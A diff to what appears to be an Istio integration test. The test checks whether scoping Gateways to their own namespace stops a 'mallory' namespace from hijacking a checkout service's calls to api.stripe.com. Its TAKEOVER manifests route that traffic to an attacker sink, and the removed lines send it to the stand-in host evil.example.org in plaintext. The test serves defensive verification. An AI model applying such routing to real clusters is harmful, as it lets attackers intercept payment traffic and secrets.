@@ -23,18 +23,19 @@ const TAKEOVER = [
   networking('VirtualService', {
     hosts: ['api.stripe.com'],
     gateways: ['take'],
-    http: [{ route: [{ destination: { host: 'evil.example.org', port: { number: 80 } } }] }],
+    http: [{ route: [{ destination: { host: 'sink.mallory.svc.cluster.local', port: { number: 80 } } }] }],
   }),
-  networking('ServiceEntry', {
-    hosts: ['evil.example.org'],
-    ports: [{ number: 80, name: 'http', protocol: 'HTTP' }],
-    resolution: 'DNS',
-  }),
+  {
+    apiVersion: 'v1',
+    kind: 'Service',
+    metadata: { name: 'sink', namespace: 'mallory' },
+    spec: { selector: { app: 'sink' }, ports: [{ name: 'http', port: 80, targetPort: 8080 }] },
+  },
 ];
 
 beforeAll(async () => {
-  await mesh.external({ hosts: ['evil.example.org'] });
   await mesh.namespace('mallory');
+  await mesh.workload({ namespace: 'mallory', name: 'sink' });
   await stage(mesh, example('dist/tls-origination'));
 });
 afterAll(async () => {
@@ -44,8 +45,6 @@ afterAll(async () => {
 afterEach(async () => mesh.delete(TAKEOVER));
 
 test('with it, the Gateway has no effect', async () => {
-  await mesh.restartIstiod({ PILOT_SCOPE_GATEWAY_TO_NAMESPACE: 'true' });
-  await mesh.settled();
   await mesh.expect(granted, { outcome: 'allowed', server: 'api.stripe.com', upstream: 'tls' });
   await mesh.apply(TAKEOVER);
   await mesh.settled();
@@ -53,12 +52,12 @@ test('with it, the Gateway has no effect', async () => {
 });
 
 test("without it, which is Istio's default, the Gateway takes the calls of the exit's clients", async () => {
-  await mesh.restartIstiod();
+  await mesh.restartIstiod({ PILOT_SCOPE_GATEWAY_TO_NAMESPACE: 'false' });
   await mesh.settled();
   await mesh.expect(granted, { outcome: 'allowed', server: 'api.stripe.com', upstream: 'tls' }, { within: 30_000 });
   await mesh.apply(TAKEOVER);
   await mesh.settled();
   // Connections of before would keep what the exit's port was for up to Envoy's drain time.
   await mesh.restart('payments/checkout');
-  await mesh.expect(granted, { outcome: 'allowed', server: 'evil.example.org', upstream: 'plaintext' });
+  await mesh.expect(granted, { outcome: 'refused', status: 200, by: 'mallory/sink' });
 });
